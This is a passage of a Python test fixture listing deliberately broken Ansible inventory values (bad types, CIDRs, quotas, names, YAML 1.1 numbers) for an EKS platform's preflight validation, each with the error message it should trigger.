"""Broken inventories for tests/integration/test_bad_input.py: a table of cases, each breaking exactly one value of
the valid local inventory, and the generator that writes them all into one inventory (one host per case).

Each case's settings become host_vars/<case id>.yml. Host variables win over the inventory's group_vars and the
shared defaults (the platform role's defaults/main, a link to group_vars/all), so a case replaces a whole variable;
where the local inventory sets the same mapping (platform_node_groups_overrides), the case is merged into it, so
only the one value differs from the valid local inventory. A value given as Plain("0200") is written unquoted, as a
user would type it, so YAML 1.1 reads it as a number (there the file's text is what is wrong, not the value)."""

from __future__ import annotations

import copy
import shutil
from dataclasses import dataclass
from pathlib import Path

import yaml

WRONG_TYPE = "wrong type"
UNKNOWN_KEY = "unknown key"
IMPOSSIBLE_SIZE = "impossible size"
MALFORMED_CIDR = "malformed CIDR"
MALFORMED_QUANTITY = "malformed quantity"
MISSING_REQUIRED = "missing required"
BAD_CHOICE = "bad choice"
BAD_VERSION = "bad version"
BAD_NAME = "bad name"
YAML_NUMBER = "YAML 1.1 number"
# Issue #26: inventories written as a careless or hostile user would.
MISSPELT = "misspelt key"
COMBINATION = "impossible combination"
SECURITY = "security policy"
INJECTION = "injection"
# Issue #26's kinds, by category: what its acceptance counts (the other categories are issue #8's).
ISSUE_26_KIND = {YAML_NUMBER: "YAML 1.1", MISSPELT: "misspelt key", UNKNOWN_KEY: "misspelt key",
                 COMBINATION: "impossible combination", IMPOSSIBLE_SIZE: "impossible combination",
                 SECURITY: "security policy", INJECTION: "injection"}

# AWS at a closed local port and a kubeconfig that does not exist: nothing could be changed even if preflight let
# a case through. One attempt per AWS call, so such a case fails at once in the AWS layer instead of retrying.
DEAD_AWS = {"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_MAX_ATTEMPTS": "1",
            "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"}
LIMIT_RANGE = {"default_request": {"cpu": "100m", "memory": "128Mi"}, "default": {"cpu": "500m", "memory": "512Mi"},
               "max": {"cpu": "8", "memory": "32Gi"}}
RBAC_GROUPS = {"platform_admins": "triptrip:platform-admins", "developers": "triptrip:developers",
               "auditors": "triptrip:auditors"}
ROLES = Path(__file__).resolve().parents[2] / "roles"


def role_default(name: str, key: str):
    """An add-on setting's default, from its role (a case that breaks one key of a dict sets the whole variable)."""
    return copy.deepcopy(yaml.safe_load((ROLES / f"addon_{name}" / "defaults" / "main.yml").read_text())[f"addon_{name}_{key}"])


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    tried: str
    settings: dict
    variable: str  # what the failure message must contain: the variable (path) at fault
    shows: str = ""  # and, where set, the value read as the message quotes it
    raw: str = ""  # text added to the host's file as typed (what a mapping cannot hold: a key set twice)


# A valid flow of the site (platform_flows_extra) that each flow case breaks in one place.
PARTNER_FLOW = {"component": "workers", "name": "partner-api", "from": {"namespace": "triptrip-workers"},
                "to": {"host": "api.partner.example"}, "port": 443, "doc": "https://partner.example/docs/network"}


def subnets(*values: str, azs: str = "acd") -> list[dict]:
    return [{"az": f"ap-northeast-1{az}", "cidr": cidr} for az, cidr in zip(azs, values)]


def cidrs(*values: str) -> dict:
    return {"platform_private_subnets": subnets(*values)}


class Plain(str):
    """A scalar written as typed, unquoted: Plain("0200") is the text 0200 in the file, which YAML 1.1 reads as 128."""


class CaseDumper(yaml.SafeDumper):
    """safe_dump's dumper, which writes a Plain unquoted (as the tag YAML would resolve its text to)."""


def _plain(dumper: yaml.SafeDumper, value: Plain) -> yaml.ScalarNode:
    return dumper.represent_scalar(dumper.resolve(yaml.ScalarNode, str(value), (True, False)), str(value))


CaseDumper.add_representer(Plain, _plain)


def groups(**changes: dict) -> dict:
    return {"platform_node_groups_overrides": changes}


def quotas(namespace: str, **values) -> dict:
    return {"platform_resource_quotas_overrides": {namespace: {k.replace("__", "."): v for k, v in values.items()}}}


CASES: list[Case] = [
    # --- wrong types -------------------------------------------------------------------------------------------
    Case("type-public-endpoint-string", WRONG_TYPE, "endpoint public access 'sometimes' (bool expected)",
         {"platform_eks_endpoint_public_access": "sometimes"}, "platform_eks_endpoint_public_access"),
    Case("type-hop-limit-word", WRONG_TYPE, "IMDS hop limit 'one' (int expected)",
         {"platform_node_imds_hop_limit": "one"}, "platform_node_imds_hop_limit"),
    Case("type-retention-list", WRONG_TYPE, "log retention [90] (int expected)",
         {"platform_eks_log_retention_days": [90]}, "platform_eks_log_retention_days"),
    Case("type-namespaces-mapping", WRONG_TYPE, "workload namespaces as a mapping (list expected)",
         {"platform_workload_namespaces": {"triptrip-api": True}}, "platform_workload_namespaces"),
    Case("type-tags-list", WRONG_TYPE, "tags as a list (dict expected)",
         {"platform_tags": ["Project", "triptrip"]}, "platform_tags"),
    Case("type-subnets-string", WRONG_TYPE, "private subnets as one string (list of dicts expected)",
         {"platform_private_subnets": "10.0.0.0/19"}, "platform_private_subnets"),
    Case("type-min-size-string", WRONG_TYPE, "node group min_size '1' as a string",
         groups(compute={"scaling": {"min_size": "1"}}), "platform_node_groups.compute.scaling.min_size"),
    Case("type-disk-size-float", WRONG_TYPE, "disk size_gb 100.5",
         groups(general={"disk": {"size_gb": 100.5}}), "platform_node_groups.general.disk.size_gb"),
    Case("type-label-value-bool", WRONG_TYPE, "node label value true unquoted",
         groups(memory={"labels": {"dedicated": True}}), "platform_node_groups.memory.labels.dedicated"),
    Case("type-instance-types-string", WRONG_TYPE, "instance_types as a string (list expected)",
         groups(spot={"instance_types": "m5.xlarge"}), "platform_node_groups.spot.instance_types"),
    Case("type-addon-enabled-string", WRONG_TYPE, "add-on enabled 'yes' as a string",
         {"addon_keda_enabled": "yes"}, 'addon_keda_enabled="yes" is a string'),
    Case("type-eks-addon-configuration-string", WRONG_TYPE, "managed add-on configuration as a string",
         {"platform_eks_addons_overrides": {"coredns": {"configuration": "replicaCount=3"}}},
         "platform_eks_addons.coredns"),
    Case("type-quota-string", WRONG_TYPE, "a namespace's quota as a string (mapping expected)",
         {"platform_resource_quotas_overrides": {"triptrip-web": "5 cores"}}, "platform_resource_quotas.triptrip-web"),
    Case("type-workload-enabled-string", WRONG_TYPE, "workload enabled 'on' as a string",
         {"platform_workloads_overrides": {"workers": {"enabled": "on"}}}, "platform_workloads.workers.enabled"),
    Case("type-eks-version-float", WRONG_TYPE, "EKS version 1.30 unquoted (YAML reads the float 1.3)",
         {"platform_eks_version": 1.3}, "platform_eks_version=1.3"),
    # --- unknown keys ------------------------------------------------------------------------------------------
    Case("unknown-node-group-key", UNKNOWN_KEY, "node group key instance_type (typo of instance_types)",
         groups(general={"instance_type": ["m5.large"]}),
         "platform_node_groups_overrides.general.instance_type: unknown key, did you mean instance_types?"),
    Case("unknown-scaling-key", UNKNOWN_KEY, "scaling key maximum",
         groups(compute={"scaling": {"maximum": 10}}), "platform_node_groups_overrides.compute.scaling.maximum: unknown key"),
    Case("unknown-disk-key", UNKNOWN_KEY, "disk key iops_limit",
         groups(memory={"disk": {"iops_limit": 4000}}), "platform_node_groups_overrides.memory.disk.iops_limit: unknown key"),
    Case("unknown-taint-key", UNKNOWN_KEY, "taint key operator",
         groups(spot={"taints": [{"key": "spot", "value": "true", "effect": "NoSchedule", "operator": "Equal"}]}),
         "platform_node_groups.spot.taints[0] has unknown keys"),
    Case("unknown-update-config-key", UNKNOWN_KEY, "update_config key max_surge",
         groups(gpu={"update_config": {"max_surge": 1}}), "platform_node_groups_overrides.gpu.update_config.max_surge: unknown key"),
    Case("unknown-quota-resource", UNKNOWN_KEY, "quota resource requests.gpu (not a quota key)",
         quotas("triptrip-ml", requests__gpu="2"), "platform_resource_quotas.triptrip-ml"),
    Case("unknown-limit-range-section", UNKNOWN_KEY, "LimitRange section min",
         {"platform_limit_range": {**LIMIT_RANGE, "min": {"cpu": "10m"}}}, "platform_limit_range"),
    Case("unknown-limit-range-resource", UNKNOWN_KEY, "LimitRange resource ephemeral-storage",
         {"platform_limit_range": {**LIMIT_RANGE, "default": {"cpu": "500m", "memory": "512Mi",
                                                              "ephemeral-storage": "1Gi"}}}, "platform_limit_range"),
    Case("unknown-rbac-group", UNKNOWN_KEY, "RBAC group key admins",
         {"platform_rbac_groups": {**RBAC_GROUPS, "admins": "triptrip:admins"}}, "platform_rbac_groups"),
    Case("unknown-subnet-key", UNKNOWN_KEY, "private subnet key public",
         {"platform_private_subnets": [{**s, "public": True} for s in subnets("10.0.0.0/19", "10.0.32.0/19")]},
         "platform_private_subnets"),
    Case("unknown-addon", UNKNOWN_KEY, "add-on override prometheus (no such add-on)",
         {"platform_addons_overrides": {"prometheus": {"enabled": True}}}, "platform_addons_overrides.prometheus"),
    Case("unknown-workload", UNKNOWN_KEY, "workload override frontend (no such workload)",
         {"platform_workloads_overrides": {"frontend": {"enabled": True}}}, "platform_workloads_overrides"),
    Case("unknown-instance-type", UNKNOWN_KEY, "instance type m7i.xlarge missing from platform_instance_types",
         groups(general={"instance_types": ["m7i.xlarge"]}), "platform_node_groups.general.instance_types"),
    # --- impossible sizes --------------------------------------------------------------------------------------
    Case("size-desired-above-max", IMPOSSIBLE_SIZE, "general desired_size 10 with max_size 6",
         groups(general={"scaling": {"desired_size": 10}}), "platform_node_groups.general.scaling.desired_size"),
    Case("size-desired-below-min", IMPOSSIBLE_SIZE, "memory desired_size 0 with min_size 1",
         groups(memory={"scaling": {"desired_size": 0}}), "platform_node_groups.memory.scaling.desired_size"),
    Case("size-negative-min", IMPOSSIBLE_SIZE, "spot min_size -1",
         groups(spot={"scaling": {"min_size": -1}}), "platform_node_groups.spot.scaling.min_size"),
    Case("size-zero-max", IMPOSSIBLE_SIZE, "gpu max_size 0",
         groups(gpu={"scaling": {"min_size": 0, "max_size": 0, "desired_size": 0}}),
         "platform_node_groups.gpu.scaling.max_size"),
    Case("size-min-above-max", IMPOSSIBLE_SIZE, "compute min_size 4 with max_size 3",
         groups(compute={"scaling": {"min_size": 4}}), "platform_node_groups.compute.scaling: min_size=4"),
    Case("size-disk-too-small", IMPOSSIBLE_SIZE, "disk size_gb 10",
         groups(general={"disk": {"size_gb": 10}}), "platform_node_groups.general.disk.size_gb"),
    Case("size-gp3-iops", IMPOSSIBLE_SIZE, "gp3 iops 20000",
         groups(memory={"disk": {"iops": 20000}}), "platform_node_groups.memory.disk.iops"),
    Case("size-gp3-throughput", IMPOSSIBLE_SIZE, "gp3 throughput 2000 MiB/s",
         groups(compute={"disk": {"throughput": 2000}}), "platform_node_groups.compute.disk.throughput"),
    Case("size-max-unavailable-percentage", IMPOSSIBLE_SIZE, "max_unavailable_percentage 150",
         groups(spot={"update_config": {"max_unavailable_percentage": 150}}),
         "platform_node_groups.spot.update_config.max_unavailable_percentage"),
    Case("size-istio-weights", IMPOSSIBLE_SIZE, "Istio route weights summing to 90",
         {"addon_istio_traffic": {**role_default("istio", "traffic"), "routes": [{"subset": "stable", "weight": 90}]}},
         "addon_istio_traffic.routes"),
    Case("size-hop-limit-3", IMPOSSIBLE_SIZE, "IMDS hop limit 3",
         {"platform_node_imds_hop_limit": 3}, "platform_node_imds_hop_limit"),
    Case("size-quota-cpu-requests-above-limits", IMPOSSIBLE_SIZE, "quota requests.cpu 5 with limits.cpu 4",
         quotas("triptrip-web", limits__cpu="4"), "platform_resource_quotas.triptrip-web: requests.cpu=5 is above limits.cpu=4"),
    Case("size-quota-memory-requests-above-limits", IMPOSSIBLE_SIZE, "quota requests.memory 20Gi with limits.memory 16Gi",
         quotas("triptrip-api", limits__memory="16Gi"), "platform_resource_quotas.triptrip-api: requests.memory=20Gi is above limits.memory=16Gi"),
    Case("size-limit-range-default-above-max", IMPOSSIBLE_SIZE, "LimitRange default cpu 16 above max 8",
         {"platform_limit_range": {**LIMIT_RANGE, "default": {"cpu": "16", "memory": "512Mi"}}},
         "platform_limit_range cpu: default_request=100m"),
    Case("size-limit-range-request-above-default", IMPOSSIBLE_SIZE, "LimitRange default_request memory 1Gi above default 512Mi",
         {"platform_limit_range": {**LIMIT_RANGE, "default_request": {"cpu": "100m", "memory": "1Gi"}}},
         "platform_limit_range memory: default_request=1Gi"),
    Case("size-gp3-throughput-per-iops", IMPOSSIBLE_SIZE, "gp3 throughput 1000 MiB/s with 3000 IOPS (0.25 MiB/s per IOPS)",
         groups(compute={"disk": {"iops": 3000, "throughput": 1000}}), "platform_node_groups.compute.disk.throughput"),
    Case("size-storage-class-throughput-per-iops", IMPOSSIBLE_SIZE, "StorageClass gp3 throughput 1000 with 3000 IOPS",
         {"platform_storage_class": {"name": "gp3-encrypted", "kms_key_id": "", "iops": "3000", "throughput": "1000"}},
         'platform_storage_class.throughput="1000"'),
    # --- malformed CIDRs ---------------------------------------------------------------------------------------
    Case("cidr-prefix-33", MALFORMED_CIDR, "subnet 10.0.0.0/33",
         cidrs("10.0.0.0/33", "10.0.32.0/19", "10.0.64.0/19"), "platform_private_subnets"),
    Case("cidr-not-a-cidr", MALFORMED_CIDR, "subnet not-a-cidr",
         cidrs("10.0.0.0/19", "not-a-cidr", "10.0.64.0/19"), "platform_private_subnets"),
    Case("cidr-subnet-outside-vpc", MALFORMED_CIDR, "subnet 10.1.0.0/19 outside the VPC 10.0.0.0/16",
         cidrs("10.0.0.0/19", "10.0.32.0/19", "10.1.0.0/19"), "platform_private_subnets"),
    Case("cidr-subnet-host-bits", MALFORMED_CIDR, "subnet 10.0.0.5/19 (host bits set)",
         cidrs("10.0.0.5/19", "10.0.32.0/19", "10.0.64.0/19"), "platform_private_subnets"),
    Case("cidr-vpc-host-bits", MALFORMED_CIDR, "VPC 10.0.0.1/16 (host bits set)",
         {"platform_vpc_cidr": "10.0.0.1/16"}, "platform_vpc_cidr"),
    Case("cidr-vpc-octet-256", MALFORMED_CIDR, "VPC 10.0.256.0/16",
         {"platform_vpc_cidr": "10.0.256.0/16"}, "platform_vpc_cidr"),
    Case("cidr-vpc-ipv6", MALFORMED_CIDR, "VPC fd00::/56 (IPv6)",
         {"platform_vpc_cidr": "fd00::/56"}, "platform_vpc_cidr"),
    Case("cidr-subnets-overlap", MALFORMED_CIDR, "subnets 10.0.0.0/19 and 10.0.0.0/20 overlap",
         cidrs("10.0.0.0/19", "10.0.0.0/20", "10.0.64.0/19"), "platform_private_subnets[1].cidr=10.0.0.0/20 overlaps"),
    # --- malformed quantities ----------------------------------------------------------------------------------
    Case("quantity-cores", MALFORMED_QUANTITY, "requests.cpu '10 cores'",
         quotas("triptrip-workers", requests__cpu="10 cores"), "platform_resource_quotas.triptrip-workers"),
    Case("quantity-double-dot", MALFORMED_QUANTITY, "requests.memory '1.5.Gi'",
         quotas("triptrip-web", requests__memory="1.5.Gi"), "platform_resource_quotas.triptrip-web"),
    Case("quantity-lower-case-unit", MALFORMED_QUANTITY, "limits.memory '80gi'",
         quotas("triptrip-api", limits__memory="80gi"), "platform_resource_quotas.triptrip-api"),
    Case("quantity-negative", MALFORMED_QUANTITY, "pods '-5'",
         quotas("triptrip-batch", pods="-5"), "platform_resource_quotas.triptrip-batch"),
    Case("quantity-limit-range-gb", MALFORMED_QUANTITY, "LimitRange max memory '32 GB'",
         {"platform_limit_range": {**LIMIT_RANGE, "max": {"cpu": "8", "memory": "32 GB"}}}, "platform_limit_range"),
    # --- missing required values -------------------------------------------------------------------------------
    Case("missing-subnet-cidr", MISSING_REQUIRED, "a private subnet without cidr",
         {"platform_private_subnets": [{"az": "ap-northeast-1a"}, *subnets("10.0.32.0/19", "10.0.64.0/19", azs="cd")]},
         "platform_private_subnets"),
    Case("missing-limit-range-max", MISSING_REQUIRED, "LimitRange without max",
         {"platform_limit_range": {k: v for k, v in LIMIT_RANGE.items() if k != "max"}}, "platform_limit_range"),
    Case("missing-rbac-auditors", MISSING_REQUIRED, "RBAC groups without auditors",
         {"platform_rbac_groups": {k: v for k, v in RBAC_GROUPS.items() if k != "auditors"}}, "platform_rbac_groups"),
    Case("missing-node-group-scaling", MISSING_REQUIRED, "a new node group without scaling",
         groups(batch={"instance_types": ["m5.xlarge"], "capacity_type": "ON_DEMAND",
                       "disk": {"size_gb": 100, "type": "gp3", "iops": 3000, "throughput": 125, "encrypted": True}}),
         "platform_node_groups.batch.scaling"),
    Case("missing-taint-key", MISSING_REQUIRED, "a taint without key",
         groups(compute={"taints": [{"value": "compute", "effect": "NoSchedule"}]}),
         "platform_node_groups.compute.taints[0].key"),
    Case("missing-cluster-name", MISSING_REQUIRED, "cluster name null",
         {"platform_cluster_name": None}, "platform_cluster_name"),
    Case("missing-eks-version", MISSING_REQUIRED, "EKS version empty",
         {"platform_eks_version": ""}, "platform_eks_version"),
    Case("missing-exception-level", MISSING_REQUIRED, "a Pod Security exception without level",
         {"platform_pod_security_exceptions": {"monitoring": {"reason": "Fluent Bit reads the hosts' logs."}}},
         "platform_pod_security_exceptions.monitoring"),
    Case("missing-access-entry-principal", MISSING_REQUIRED, "an access entry without principal_arn or role_name",
         {"platform_eks_access_entries": [{"kubernetes_groups": ["triptrip:platform-admins"], "access_policies": []}]},
         "platform_eks_access_entries[0]"),
    Case("missing-irsa-policy", MISSING_REQUIRED, "an IRSA role without managed_policies or policy",
         {"platform_irsa_roles_overrides": {"karpenter": {"namespace": "kube-system", "service_account": "karpenter"}}},
         "platform_irsa_roles.karpenter"),
    Case("missing-eks-addon-version", MISSING_REQUIRED, "a managed add-on with an empty version",
         {"platform_eks_addons_overrides": {"aws-ebs-csi-driver": {"version": ""}}},
         "platform_eks_addons.aws-ebs-csi-driver"),
    Case("missing-chart-mirror", MISSING_REQUIRED, "chart source mirror without a mirror folder",
         {"platform_addons_chart_mirror": ""}, "platform_addons_chart_mirror"),
    Case("missing-subnet-ids-with-vpc", MISSING_REQUIRED, "platform_vpc_id set, platform_subnet_ids empty",
         {"platform_vpc_id": "vpc-0123456789abcdef0", "platform_subnet_ids": []}, "platform_subnet_ids=[]"),
    Case("missing-api-allowed-cidrs", MISSING_REQUIRED, "vpc API access mode with no allowed CIDRs",
         {"platform_eks_api_access": "vpc", "platform_eks_api_allowed_cidrs": []}, "platform_eks_api_allowed_cidrs=[]"),
    Case("missing-api-public-cidrs", MISSING_REQUIRED, "temporary_public API access with no runner CIDRs",
         {"platform_eks_api_access": "temporary_public", "platform_eks_api_public_cidrs": []},
         "platform_eks_api_public_cidrs=[]"),
    Case("missing-api-proxy-url", MISSING_REQUIRED, "proxy API access without a proxy URL",
         {"platform_eks_api_access": "proxy", "platform_eks_api_proxy_url": ""}, "platform_eks_api_proxy_url=''"),
    Case("cidr-api-allowed", MALFORMED_CIDR, "an allowed API CIDR 10.0.0.0/33",
         {"platform_eks_api_allowed_cidrs": ["10.0.0.0/33"]}, "platform_eks_api_allowed_cidrs holds '10.0.0.0/33'"),
    Case("access-entry-assumed-role-arn", BAD_NAME, "an access entry naming an STS assumed-role session",
         {"platform_eks_access_entries": [{"principal_arn": "arn:aws:sts::123456789012:assumed-role/Admin/alice"}]},
         "platform_eks_access_entries[0].principal_arn"),
    Case("access-entry-group-arn", BAD_NAME, "an access entry naming an IAM group",
         {"platform_eks_access_entries": [{"principal_arn": "arn:aws:iam::123456789012:group/admins"}]},
         "platform_eks_access_entries[0].principal_arn"),
    # --- bad choices -------------------------------------------------------------------------------------------
    Case("choice-api-access", BAD_CHOICE, "API access mode public", {"platform_eks_api_access": "public"},
         "platform_eks_api_access"),
    Case("choice-capacity-type", BAD_CHOICE, "capacity_type PREEMPTIBLE",
         groups(general={"capacity_type": "PREEMPTIBLE"}), "platform_node_groups.general.capacity_type"),
    Case("choice-taint-effect", BAD_CHOICE, "taint effect NoRun",
         groups(compute={"taints": [{"key": "workload-type", "value": "compute", "effect": "NoRun"}]}),
         "platform_node_groups.compute.taints[0].effect"),
    Case("choice-exception-level", BAD_CHOICE, "Pod Security exception level permissive",
         {"platform_pod_security_exceptions": {"istio-system": {"level": "permissive", "reason": "istio-cni"}}},
         "platform_pod_security_exceptions.istio-system"),
    Case("choice-environment", BAD_CHOICE, "environment prod",
         {"platform_environment": "prod"}, "platform_environment"),
    Case("choice-log-type", BAD_CHOICE, "log type kubelet",
         {"platform_eks_logging_types": ["api", "kubelet"]}, "platform_eks_logging_types"),
    Case("choice-disk-type", BAD_CHOICE, "disk type st1",
         groups(memory={"disk": {"type": "st1"}}), "platform_node_groups.memory.disk.type"),
    Case("choice-chart-source", BAD_CHOICE, "chart source s3",
         {"platform_addons_chart_source": "s3"}, "platform_addons_chart_source"),
    Case("choice-authentication-mode", BAD_CHOICE, "authentication mode IAM",
         {"platform_eks_authentication_mode": "IAM"}, "platform_eks_authentication_mode"),
    Case("choice-ami-type", BAD_CHOICE, "AMI type AL2_x86_64_GPU (the spec's, gone with Kubernetes 1.33)",
         groups(gpu={"ami_type": "AL2_x86_64_GPU"}), "platform_node_groups.gpu.ami_type"),
    Case("choice-workloads-profile", BAD_CHOICE, "workloads profile dev",
         {"platform_workloads_profile": "dev"}, "platform_workloads_profile"),
    Case("choice-control-plane-tier", BAD_CHOICE, "control plane scaling tier tier-3xl (no such tier)",
         {"platform_eks_control_plane_tier": "tier-3xl"}, "platform_eks_control_plane_tier", shows="tier-3xl"),
    Case("choice-support-type", BAD_CHOICE, "support type LONG_TERM (STANDARD or EXTENDED)",
         {"platform_eks_support_type": "LONG_TERM"}, "platform_eks_support_type", shows="LONG_TERM"),
    Case("size-node-repair-percentage", IMPOSSIBLE_SIZE, "node repair of at most 150 % of a group at a time",
         {"platform_node_repair": {"enabled": True, "max_parallel_nodes_repaired_percentage": 150}},
         "platform_node_repair", shows="max_parallel_nodes_repaired_percentage must be between 1 and 100, got 150"),
    Case("size-node-repair-both", IMPOSSIBLE_SIZE, "node repair threshold as a count and a percentage at once",
         {"platform_node_repair": {"enabled": True, "max_unhealthy_node_threshold_count": 3,
                                   "max_unhealthy_node_threshold_percentage": 20}}, "platform_node_repair",
         shows="not both"),
    Case("unknown-node-repair-key", UNKNOWN_KEY, "node repair key max_unhealthy_percent (a name EKS does not have)",
         {"platform_node_repair": {"enabled": True, "max_unhealthy_percent": 20}}, "max_unhealthy_percent"),
    Case("choice-aws-identity", BAD_CHOICE, "identity mode kiam (pod_identity or irsa)",
         {"platform_aws_identity": "kiam"}, "platform_aws_identity", shows="kiam"),
    Case("choice-deletion-protection", BAD_CHOICE, "deletion protection 'maybe' (true, false or empty)",
         {"platform_eks_deletion_protection": "maybe"}, "platform_eks_deletion_protection"),
    # --- bad versions ------------------------------------------------------------------------------------------
    Case("version-eks-patch", BAD_VERSION, "EKS version 1.35.2 (a minor expected)",
         {"platform_eks_version": "1.35.2"}, "platform_eks_version"),
    Case("version-pod-security", BAD_VERSION, "Pod Security version 1.35 (v1.35 expected)",
         {"platform_pod_security_version": "1.35"}, "platform_pod_security_version"),
    Case("version-addon-latest", BAD_VERSION, "add-on chart version latest",
         {"addon_vpa_version": "latest"}, "addon_vpa_version='latest'"),
    Case("version-autoscaler-tag", BAD_VERSION, "cluster-autoscaler image_tag latest",
         {"addon_cluster_autoscaler_image_tag": "latest"},
         "addon_cluster_autoscaler_image_tag='latest'"),
    # --- bad names ---------------------------------------------------------------------------------------------
    Case("name-cluster-underscore", BAD_NAME, "cluster name triptrip_local",
         {"platform_cluster_name": "triptrip_local"}, "platform_cluster_name"),
    Case("name-instance-type", BAD_NAME, "instance type m5-xlarge",
         groups(general={"instance_types": ["m5-xlarge"]}), "platform_node_groups.general.instance_types"),
    Case("name-reserved-label", BAD_NAME, "node label key kubernetes.io/role",
         groups(compute={"labels": {"kubernetes.io/role": "compute"}}), "platform_node_groups.compute.labels"),
    Case("name-service-account", BAD_NAME, "service account Api (upper case)",
         {"platform_service_accounts": {"triptrip-api": ["Api"]}}, "platform_service_accounts"),
    Case("name-region-city", BAD_NAME, "AWS region tokyo",
         {"platform_aws_region": "tokyo"}, "platform_aws_region=tokyo"),
    Case("name-az-other-region", BAD_NAME, "availability zone us-east-1a in region ap-northeast-1",
         {"platform_private_subnets": subnets("10.0.0.0/19", "10.0.32.0/19", "10.0.64.0/19", azs="acd")[:2]
          + [{"az": "us-east-1a", "cidr": "10.0.64.0/19"}]}, "platform_private_subnets[2].az='us-east-1a'"),
    Case("name-az-zone-a", BAD_NAME, "availability zone zone-a",
         {"platform_private_subnets": [{"az": "zone-a", "cidr": "10.0.0.0/19"},
                                       *subnets("10.0.32.0/19", "10.0.64.0/19", azs="cd")]},
         "platform_private_subnets[0].az='zone-a'"),
    Case("name-account-id-short", BAD_NAME, "AWS account id 12345 (12 digits expected)",
         {"platform_aws_account_id": "12345"}, 'platform_aws_account_id="12345"'),
    Case("name-kms-key-arn", BAD_NAME, "KMS key ARN not-an-arn",
         {"platform_eks_kms_key_arn": "not-an-arn"}, 'platform_eks_kms_key_arn="not-an-arn"'),
    Case("name-kms-key-other-region", BAD_NAME, "KMS key ARN in us-east-1 for a cluster in ap-northeast-1",
         {"platform_eks_kms_key_arn": "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"},
         "platform_eks_kms_key_arn="),
    Case("name-vpc-id", BAD_NAME, "VPC id my-vpc with subnet ids net-1, net-2",
         {"platform_vpc_id": "my-vpc", "platform_subnet_ids": ["net-1", "net-2"]}, 'platform_vpc_id="my-vpc"'),
    Case("name-namespace-not-dns-label", BAD_NAME, "workload namespace 'TripTrip Extra'",
         {"platform_workload_namespaces": ["triptrip-api", "triptrip-web", "triptrip-workers", "triptrip-ml",
                                           "triptrip-cache", "triptrip-db", "triptrip-batch", "TripTrip Extra"]},
         "platform_workload_namespaces="),
    Case("name-namespace-in-two-lists", BAD_NAME, "namespace keda in the workload and the add-on lists",
         {"platform_workload_namespaces": ["triptrip-api", "triptrip-web", "triptrip-workers", "triptrip-ml",
                                           "triptrip-cache", "triptrip-db", "triptrip-batch", "keda"]},
         'more than once: ["keda"]'),
    Case("flow-unknown-component", BAD_NAME, "a flow of component kafka (no such add-on or workload)",
         {"platform_flows_extra": [dict(PARTNER_FLOW, component="kafka")]},
         "platform_flows_extra[0].component must be one of"),
    Case("flow-unknown-namespace", BAD_NAME, "a flow to namespace payments, which the cluster does not have",
         {"platform_flows_extra": [dict(PARTNER_FLOW, to={"namespace": "payments"})]},
         "platform_flows_extra[0].to names namespace 'payments'"),
    Case("flow-port-out-of-range", IMPOSSIBLE_SIZE, "a flow on port 70000",
         {"platform_flows_extra": [dict(PARTNER_FLOW, port=70000)]}, "platform_flows_extra[0].port"),
    Case("flow-host-not-dns-name", BAD_NAME, "a ServiceEntry host written as a URL",
         {"platform_flows_extra": [dict(PARTNER_FLOW, to={"host": "https://api.partner.example/v1"})]},
         "platform_flows_extra[0].to.host must be a DNS name"),
    Case("flow-unknown-key", UNKNOWN_KEY, "a flow with `prot: TCP` (protocol misspelt)",
         {"platform_flows_extra": [dict(PARTNER_FLOW, prot="TCP")]}, "platform_flows_extra[0] has unknown keys"),
    # --- input that holds (issue #25 item 7: roles/preflight/tasks/checks_input.yml) ---------------------------
    # YAML 1.1 numbers: the file's text is refused (once parsed, 0200 is just 128).
    Case("yaml-octal-disk-size", YAML_NUMBER, "disk size_gb 0200 unquoted (YAML 1.1 reads the octal 128)",
         groups(general={"disk": {"size_gb": Plain("0200")}}),
         "platform_node_groups_overrides.general.disk.size_gb: 0200 is read as 128"),
    Case("yaml-sexagesimal-timeout", YAML_NUMBER, "Istio route timeout 1:30 unquoted (YAML 1.1 reads the base-60 90)",
         {"addon_istio_traffic": {**role_default("istio", "traffic"), "timeout": Plain("1:30")}},
         "addon_istio_traffic.timeout: 1:30 is read as 90"),
    Case("yaml-octal-helm-timeout", YAML_NUMBER, "Helm timeout 0600 unquoted (YAML 1.1 reads the octal 384)",
         {"platform_addons_helm_timeout": Plain("0600")}, "platform_addons_helm_timeout: 0600 is read as 384"),
    Case("yaml-12-octal-replicas", YAML_NUMBER, "KEDA operator replicas 0o2 (YAML 1.1 reads the string '0o2')",
         {"addon_keda_replicas": {"operator": Plain("0o2"), "metrics_server": 1, "webhooks": 1}},
         "addon_keda_replicas.operator: 0o2 is read as the string"),
    # Strings where the defaults hold booleans, numbers or mappings.
    Case("type-addon-enabled-false-string", WRONG_TYPE, "add-on enabled \"false\" quoted (a string Jinja reads as true)",
         {"addon_argocd_enabled": "false"},
         'addon_argocd_enabled="false" is a string, but addon_argocd_enabled takes true or false'),
    # An add-on's setting (metrics-server's): each is a variable addon_<name>_<key>.
    Case("type-addon-own-replicas-string", WRONG_TYPE, "metrics-server replicas \"3\" quoted (its own variable)",
         {"addon_metrics_server_replicas": "3"},
         'addon_metrics_server_replicas="3" is a string, but addon_metrics_server_replicas takes a whole number'),
    Case("type-addon-own-enabled-string", WRONG_TYPE, "metrics-server enabled \"false\" quoted (its own variable)",
         {"addon_metrics_server_enabled": "false"},
         'addon_metrics_server_enabled="false" is a string, but addon_metrics_server_enabled takes true or false'),
    Case("type-disk-encrypted-string", WRONG_TYPE, "node group disk encrypted \"yes\" quoted",
         groups(memory={"disk": {"encrypted": "yes"}}), 'platform_node_groups_overrides.memory.disk.encrypted="yes"'),
    Case("type-irsa-workload-string", WRONG_TYPE, "IRSA role workload \"true\" quoted",
         {"platform_irsa_roles_overrides": {"triptrip-api": {"workload": "true"}}},
         'platform_irsa_roles_overrides.triptrip-api.workload="true"'),
    Case("type-ecr-scan-on-push-string", WRONG_TYPE, "ECR scan_on_push \"no\" quoted",
         {"platform_ecr_repositories_overrides": {"triptrip-workers": {"scan_on_push": "no"}}},
         'platform_ecr_repositories_overrides.triptrip-workers.scan_on_push="no"'),
    Case("type-quota-list", WRONG_TYPE, "a namespace's quota as a list (mapping expected)",
         {"platform_resource_quotas_overrides": {"triptrip-ml": [{"requests.cpu": "2"}]}},
         "platform_resource_quotas_overrides.triptrip-ml=[{\"requests.cpu\": \"2\"}] is a list"),
